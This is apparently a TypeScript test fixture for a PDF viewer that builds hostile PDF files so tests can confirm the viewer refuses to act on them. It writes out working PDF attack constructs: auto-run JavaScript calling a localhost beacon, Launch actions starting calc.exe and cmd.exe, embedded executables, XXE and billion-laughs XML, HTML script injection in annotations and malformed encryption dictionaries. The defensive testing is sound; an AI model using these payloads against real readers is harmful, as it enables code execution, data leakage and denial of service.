import type { Body } from '#tests/renderer/viewer/pdf/make-pdf.ts';
import type { HostilePdf } from './hostile-pdf.ts';
import { changedScan, stream } from './writer.ts';

/** Asked for by files that want to leave the machine; tests listen there. */
export const beacon = 'http://127.0.0.1:47063/beacon';

const catalogue = (
  name: string,
  entries: string,
  further: Readonly<Record<number, Body>> = {},
): HostilePdf => ({
  name: `active-${name}`,
  mustShow: true,
  make: () => changedScan({ 1: `<< /Type /Catalog /Pages 2 0 R ${entries} >>`, ...further }),
});

const annotation = (
  name: string,
  entries: string,
  further: Readonly<Record<number, Body>> = {},
): HostilePdf => ({
  name: `active-${name}`,
  mustShow: true,
  make: () =>
    changedScan({
      3: '<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >> /Annots [20 0 R] /AA << /O 21 0 R >> >>',
      20: `<< /Type /Annot /Rect [0 0 595 842] ${entries} >>`,
      21: '<< /S /JavaScript /JS (app.alert\\("page opened"\\)) >>',
      ...further,
    }),
});

const script = `app.alert\\(1\\); app.launchURL\\("${beacon}"\\); this.submitForm\\("${beacon}"\\);`;
const file = '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 30 0 R >> >>';
const program = { 30: stream('/Type /EmbeddedFile /Subtype /application#2fexe', 'MZ this is a program') };

/** Files that would act: run scripts, start programs, reach out, open windows. The page itself is fine. */
export const activeFiles: readonly HostilePdf[] = [
  catalogue('script-on-opening', `/OpenAction << /S /JavaScript /JS (${script}) >>`),
  catalogue(
    'script-by-name',
    `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>`,
  ),
  catalogue(
    'script-on-printing',
    `/AA << /WC << /S /JavaScript /JS (${script}) >> /WP << /S /JavaScript /JS (${script}) >> >>`,
  ),
  catalogue(
    'launch-on-opening',
    '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  ),
  catalogue('address-on-opening', `/OpenAction << /S /URI /URI (${beacon}) >> /URI << /Base (${beacon}) >>`),
  catalogue(
    'other-file-on-opening',
    '/OpenAction << /S /GoToR /F (//127.0.0.1/share/a.pdf) /D [0 /Fit] /NewWindow true >>',
  ),
  catalogue(
    'submit-on-opening',
    `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${beacon}) >> /Flags 4 >>`,
  ),
  catalogue('import-on-opening', `/OpenAction << /S /ImportData /F << /FS /URL /F (${beacon}) >> >>`),
  catalogue('embedded-program', `/Names << /EmbeddedFiles << /Names [(a.exe) ${file}] >> >>`, program),
  catalogue(
    'portfolio',
    `/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a.exe) ${file}] >> >>`,
    program,
  ),
  catalogue('xfa', '/AcroForm << /XFA 31 0 R /Fields [] >> /NeedsRendering true', {
    31: stream(
      '',
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "${beacon}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("${beacon}")</script></event></subform></template></xdp:xdp>`,
    ),
  }),
  catalogue('xml-entities', '/Metadata 31 0 R', {
    31: stream(
      '/Type /Metadata /Subtype /XML',
      `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d SYSTEM "${beacon}">]><x>${'&c;'.repeat(50)}&d;</x>`,
    ),
  }),
  annotation('link-to-an-address', `/Subtype /Link /A << /S /URI /URI (${beacon}) >>`),
  annotation(
    'link-to-a-script',
    `/Subtype /Link /A << /S /URI /URI (javascript:window.open\\("${beacon}"\\)) >>`,
  ),
  annotation('link-to-a-program', '/Subtype /Link /A << /S /Launch /F (calc.exe) >>'),
  annotation(
    'link-into-another-file',
    `/Subtype /Link /A << /S /GoToR /F << /FS /URL /F (${beacon}) >> /D [0 /Fit] >>`,
  ),
  annotation('attached-program', `/Subtype /FileAttachment /FS ${file}`, program),
  annotation(
    'rich-media',
    `/Subtype /RichMedia /RichMediaSettings << /Activation << /Condition /PO >> >> /RichMediaContent << /Assets << /Names [(a.swf) ${file}] >> >>`,
    program,
  ),
  annotation(
    'film',
    `/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${beacon}) >> >> >> >>`,
  ),
  annotation(
    'form-field-with-script',
    `/Subtype /Widget /FT /Tx /T (a) /AA << /F << /S /JavaScript /JS (${script}) >> >>`,
  ),
  annotation(
    'text-with-html',
    `/Subtype /FreeText /DA (/Helv 12 Tf) /Contents (<img src=x onerror=fetch\\('${beacon}'\\)>) /RC (<body><img src="${beacon}"/><script>fetch\\('${beacon}'\\)</script></body>)`,
  ),
  annotation('appearance-of-itself', '/Subtype /Stamp /AP << /N 22 0 R >>', {
    22: stream(
      '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 22 0 R >> >>',
      '/A Do',
    ),
  }),
  catalogue('font-at-an-address', '', {
    3: '<< /Type /Page /Parent 2 0 R /Contents 32 0 R /Resources << /Font << /F 33 0 R >> /XObject << /Im0 5 0 R >> >> >>',
    32: stream('', 'q 595 0 0 842 0 0 cm /Im0 Do Q BT /F 24 Tf 72 700 Td (review) Tj ET'),
    33: '<< /Type /Font /Subtype /TrueType /BaseFont /Far /FontDescriptor 34 0 R >>',
    34: '<< /Type /FontDescriptor /FontName /Far /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile2 35 0 R >>',
    35: stream(`/F << /Type /Filespec /FS /URL /F (${beacon}) >> /Length1 0`, ''),
  }),
  catalogue('content-at-an-address', '', {
    6: `<< /Type /Page /Parent 2 0 R /Contents 36 0 R >>`,
    36: stream(`/F << /Type /Filespec /FS /URL /F (${beacon}) >>`, ''),
  }),
];

const encrypt = (name: string, dictionary: string): HostilePdf => ({
  name: `locked-${name}`,
  make: () =>
    changedScan(
      { 40: dictionary },
      '/Encrypt 40 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
    ),
});

const zeros = '0'.repeat(64);

/** Files behind a password, and files that only say so. */
export const lockedFiles: readonly HostilePdf[] = [
  encrypt(
    'with-a-password',
    `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${zeros}> /U <${zeros}> >>`,
  ),
  encrypt(
    'with-aes-256',
    `<< /Filter /Standard /V 5 /R 6 /Length 256 /P -44 /O <${'0'.repeat(96)}> /U <${'0'.repeat(96)}> /OE <${zeros}> /UE <${zeros}> /Perms <${'0'.repeat(32)}> /CF << /StdCF << /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF >>`,
  ),
  encrypt('by-an-unknown-handler', '<< /Filter /Acme.Rights /V 99 /R 99 >>'),
  encrypt(
    'with-lengths-that-lie',
    '<< /Filter /Standard /V 1 /R 3 /Length 2000000000 /P 1e99 /O () /U () >>',
  ),
  encrypt('by-nothing', 'null'),
];
